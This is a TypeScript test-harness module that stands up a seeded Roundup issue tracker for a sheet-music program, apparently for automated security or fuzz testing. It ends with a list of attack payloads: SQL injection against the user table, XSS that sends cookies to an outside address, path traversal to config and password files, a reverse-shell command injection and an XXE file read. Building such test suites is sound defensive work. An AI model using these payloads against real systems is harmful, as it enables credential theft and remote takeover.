import type { Application } from "../application.ts";

/**
 * The tracker's own pages, less what would make most forms fail: ids that only a helper window finds (superseder, nosy), and a priority that
 * is asked for; and less the script of that window, which asks for its texts on every page. Then its people and first issues.
 */
const makeTracker = `
import pathlib, re, sys
pages = pathlib.Path("tracker/html")
item = (pages / "issue.item.html").read_text()
item = re.sub(r"<tr>\\s*<th i18n:translate=\\"\\">Superseder.*?</tr>", "", item, flags=re.S)
item = re.sub(r"<tr>\\s*<th i18n:translate=\\"\\">Assigned To.*?</tr>", "<tr><th>Assigned To</th><td tal:content='structure context/assignedto/menu'>assignedto</td><th>Keywords</th><td tal:content='structure context/keyword/menu'>keyword</td></tr>", item, flags=re.S)
(pages / "issue.item.html").write_text(item.replace('value="title,priority"', 'value="title"'))
frame = (pages / "page.html").read_text()
frame = re.sub(r"<script[^>]*classhelper.*?</script>", "", frame, flags=re.S)
frame = re.sub(r"<input type=.submit. class=.form-small. value=.Show issue:.*?name=.@number.>", "", frame, flags=re.S)
(pages / "page.html").write_text(frame)

from roundup import date, instance, password
tracker = instance.open("tracker")
db = tracker.open("admin")
people = [db.user.create(username=name, realname=real, address=f"{name}@example.org", roles="User", password=password.Password("Da-capo-77", config=db.config), timezone="UTC")
          for name, real in [("vesna", "Vesna H"), ("koji", "Koji"), ("oboist", "First Oboe"), ("brid", "Bríd")]]
words = [db.keyword.create(name=name) for name in ["engraving", "midi", "musicxml", "playback", "import", "windows"]]
titles = ["Slurs collide with fingering above the staff", "MusicXML import loses repeats", "Crash on undo after transposing", "Playback ignores D.S. al Coda",
          "Ties over a page break are drawn twice", "Percussion map can't be exported", "High CPU with 40+ staves", "Umlauts in lyrics become ??",
          "Wish: cue-sized notes", "PDF export: fonts not embedded", "MIDI input lags by 200 ms", "Tuplets: 5:4 shown as 5:6"]
for i, title in enumerate(titles * 3):
    note = db.msg.create(content=f"Seen with build {2200 + i}. Steps: open the example score, go to bar {i + 3}, see above.", author=people[i % 4], date=date.Date("."))
    db.issue.create(title=title if i < 12 else f"{title} ({i})", priority=str(i % 5 + 1), status=str(i % 8 + 1), assignedto=people[i % 4], keyword=[words[i % 6]], messages=[note])
db.commit()
db.close()
`;

const serve = `
import socketserver, sys
from wsgiref.simple_server import WSGIRequestHandler, WSGIServer, make_server
from roundup.cgi.wsgi_handler import RequestDispatcher

class Server(socketserver.ThreadingMixIn, WSGIServer):
    daemon_threads = True

class Handler(WSGIRequestHandler):
    def log_message(self, *_): pass

make_server("127.0.0.1", int(sys.argv[1]), RequestDispatcher("tracker"), Server, Handler).serve_forever()
`;

/** An issue tracker, here of a program that engraves sheet music; its visitors search, report, answer and close. */
export const roundup: Application = {
  name: "roundup",
  packages: { pip: ["roundup==2.6.0"] },
  files: () => ({ "make.py": makeTracker, "serve.py": serve }),
  prepare: ({ port }) => [
    [
      "roundup-admin",
      "-i",
      "tracker",
      "install",
      "classic",
      "sqlite",
      `tracker_web=http://127.0.0.1:${port}/,mail_domain=example.org,mail_host=localhost,mail_debug=mail.log,admin_email=admin@example.org`,
    ],
    ["roundup-admin", "-i", "tracker", "initialise", "Fermata-1"],
    ["python3", "make.py"],
  ],
  start: ({ port }) => ["python3", "serve.py", String(port)],
  ready: "/",
  async enter(page, origin) {
    await page.goto(`${origin}/`);
    await page.locator("input[name=__login_name]").fill("vesna");
    await page.locator("input[name=__login_password]").fill("Da-capo-77");
    await page.keyboard.press("Enter");
    await page.locator(".userblock a[href^=user]").waitFor();
  },
  pages: [
    "/",
    "/issue?@template=item",
    "/issue?@template=search",
    "/issue?@columns=id,activity,title,creator,status&@sort=-activity&@group=priority&@filter=status&status=-1,1,2,3,4,5,6,7",
    "/issue?@search_text=playback&@columns=title,status&@pagesize=20&@startwith=0",
    "/issue3",
    "/issue8",
    "/issue14",
    "/issue27",
    "/issue33",
    "/issue19",
    "/msg5",
  ],
  // A retired query or user is gone for all visits after this one.
  avoid: /retire|restore|user\d*$|user\?|unlink|export_csv_id/i,
  texts: {
    searches: [
      "slur",
      "MusicXML repeats",
      "undo crash",
      "D.S. al Coda",
      "tie page break",
      "5:4",
      "can't export",
      "lyrics AND umlaut",
      "tuplet NOT 3",
      "fonts (embedded)",
      "percussion map",
      "MIDI & latency",
      "staff_lines=1",
      "QPainter::begin",
      "score.mscx",
      "C:\\Users\\Public\\Scores",
      "fingering",
      "version >= 4.2",
      "100% zoom",
      "cue-sized",
      '"page turn"',
      "SIGSEGV",
      "Vorzeichen",
      "♭♭",
      "ドット",
      "pauses; fermata",
      "1,2,3",
      "coda OR segno",
    ],
    lines: [
      "Slur endpoints jump when the stem flips",
      "Import: <backup> elements aren't honoured",
      "Can't open scores from \\\\nas\\music\\2025",
      "Crash in Note::layout() when pitch is None",
      'Title "Étude № 3" is cut after the É',
      "Playback: swing 66% sounds like 50%",
      "Export to PDF fails; log says 'Permission denied'",
      "Wish: shift+click to select a range of bars",
      "Regression since r4411 (worked in 4.1.2)",
      "Drag & drop of .mxl files does nothing on X11",
      "64th rests overlap in 7/16",
      "Double sharp (𝄪) shown as a box",
      'Tempo text "♩ = 120" isn\'t parsed',
      "Don't reset the zoom on save",
      "undo() after redo() loses lyrics",
      "Build fails: undefined reference to `engrave::Beam::slope'",
      "OSC: /transport/play ignored",
      "Bars > 999 are numbered 1000,00",
      "midi-in",
      "needs triage?",
      "Notenschlüssel fehlt beim Drucken",
      "和音の入力で落ちる",
      "score %d of %d",
      "Select * in the filter box doesn't select all",
      "Where's the metronome?",
      "lyrics; hyphens; melismas",
      "tests/beam_test.py::test_slope[5-4]",
    ],
    long: [
      'I can reproduce this on 4.2.1 (Debian 13) but not on 4.1.2.\n\nSteps:\n1. New score, 5/4\n2. Enter a tuplet (Ctrl+5)\n3. Undo twice\n\nExpected: an empty bar. Actual: "std::out_of_range" and it\'s gone.',
      'Traceback (most recent call last):\n  File "partita/layout/beam.py", line 212, in slope\n    dy = self.notes[-1].y - self.notes[0].y\nIndexError: list index out of range',
      "Fixed in r4519; the comparison was <= where it should've been <. Please test & close.",
      "Not a bug, I'd say: D.S. al Coda needs a 'To Coda' mark; without it the player can't know where to jump (see the manual, §7.3).",
      '```diff\n--- a/src/import/musicxml.cpp\n+++ b/src/import/musicxml.cpp\n@@ -88,7 +88,7 @@\n-    if (el.name() == "repeat" && dir == \'forward\')\n+    if (el.name() == "repeat" && dir == "forward")\n```',
      "Program received signal SIGSEGV, Segmentation fault.\n0x00007ffff7a2 in Score::undo (this=0x0) at score.cc:1187\n(gdb) p *this\nCannot access memory at address 0x0",
      "The file in question contains:\n\n<note><pitch><step>C</step><alter>1</alter><octave>4</octave></pitch><duration>24</duration></note>\n<backup><duration>96</duration></backup>\n\nso it's valid MusicXML 4.0 (I ran xmllint --noout --schema musicxml.xsd score.xml).",
      "Same here on Windows 11: C:\\Program Files\\Partita\\bin\\partita.exe --verbose says\n[warn] font 'Bravura' not found; falling back to 'Times'\n[warn] 37% of the glyphs are missing",
      'Workaround until 4.3: open ~/.config/partita/partita.ini and set\n\n[playback]\nbuffer=1024\ndevice="hw:1,0"\n\nthen restart the program. Lag goes down to ~20 ms.',
      "@koji: could you bisect? `git bisect start 4.2.1 4.1.2 && git bisect run ./tests/run.sh tuplets` should take ten minutes or so.",
      "Bei mir tritt das auch auf, aber nur wenn »Mehrfachpausen zusammenfassen« aktiv ist. Ohne diese Option ist alles in Ordnung.",
      "select count(*) from glyphs where name like 'rest%' gives 14 in the broken cache and 22 in a good one, so I'd guess the font cache isn't rebuilt after the update. rm -r ~/.cache/partita helped.",
      "+1 from the whole viola section :-)\n\nWe've got 38 parts to print by Friday; if there's a nightly build, I'm happy to try it.",
      "再現しました。環境: macOS 15.2、バージョン 4.2.1。\n五連符を入力して「元に戻す」を二回押すと落ちます。",
      "The ratio is wrong: for n notes in the time of m, width = Σ wᵢ · (m/n), not m·n. With 5:4 that's 0.8×, which is what the old version drew.",
      "Duplicate of #8? The stack's the same from frame #3 on:\n#3 engrave::Slur::layout()\n#4 engrave::Page::layout()\n#5 main (argc=2, argv=0x7ffd)",
      'Closing; no answer for six months. Please reopen if it\'s still there in 4.3, ideally with a score (File > Export > "Anonymise…").',
      "À mon avis c'est voulu : l'option « ne pas couper les liaisons » est cochée par défaut depuis la 4.2. Peut-on au moins l'indiquer dans l'aide ?",
    ],
  },
  attacks: [
    { class: "sql_injection", payload: "12' UNION ALL SELECT NULL,_password,_username,NULL FROM _user WHERE '1'='1" },
    {
      class: "sql_injection",
      payload: "-activity,(select case when (substr(_password,1,1)='{') then 1 else 1/0 end from _user)",
    },
    {
      class: "sql_injection",
      payload: 'tuplet" AND 3516=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(200000000/2)))) AND "q"="q',
    },
    {
      class: "sql_injection",
      payload: "3;UPDATE _user SET _roles=$$Admin$$ WHERE _username=$$vesna$$;SELECT pg_sleep(7)--",
    },
    { class: "sql_injection", payload: "undo') OR EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version()),0x7e)) OR ('a'='b" },
    { class: "sql_injection", payload: "1 RLIKE (SELECT (CASE WHEN (7213=7213) THEN 0x31 ELSE 0x28 END)) ORDER BY 9#" },
    { class: "xss", payload: "Slur bug</title><script src=https://x.example.net/r.js></script>" },
    {
      class: "xss",
      payload:
        "issue3\" autofocus onfocus=\"fetch('/user1').then(r=>r.text()).then(t=>navigator.sendBeacon('//203.0.113.90',t))",
    },
    { class: "xss", payload: "%22%3E%3Cvideo%3E%3Csource%20onerror%3D%22parent.alert(origin)%22%3E" },
    { class: "xss", payload: '<a href="jav&#x09;ascript:document.forms[0].submit()">see the attached score</a>' },
    {
      class: "xss",
      payload:
        "<iframe srcdoc=\"&lt;script&gt;top.location='//203.0.113.90/?'+top.document.cookie&lt;/script&gt;\"></iframe>",
    },
    { class: "path_traversal", payload: "@@file/../../tracker/config.ini" },
    { class: "path_traversal", payload: "..\\..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts" },
    { class: "path_traversal", payload: "%2e%2e/%2e%2e/%2e%2e/tracker/db/passwd%00.html" },
    { class: "path_traversal", payload: "/var/lib/roundup/../../../proc/self/cmdline" },
    { class: "command_injection", payload: "vesna@example.org -OQueueDirectory=/tmp -X/var/www/html/s.php; id" },
    { class: "command_injection", payload: "score.mxl|/bin/bash -i >& /dev/tcp/203.0.113.90/9001 0>&1" },
    { class: "command_injection", payload: "python:modules['os'].popen('uname -a;id').read()" },
    { class: "command_injection", payload: `\${T(java.lang.Runtime).getRuntime().exec('nslookup 8a1c.oast.example')}` },
    {
      class: "xxe",
      payload:
        "<?xml version='1.0'?><!DOCTYPE score-partwise [<!ENTITY cfg SYSTEM 'file:///srv/tracker/config.ini'>]><methodCall><methodName>display</methodName><params><param><value>&cfg;</value></param></params></methodCall>",
    },
  ],
};
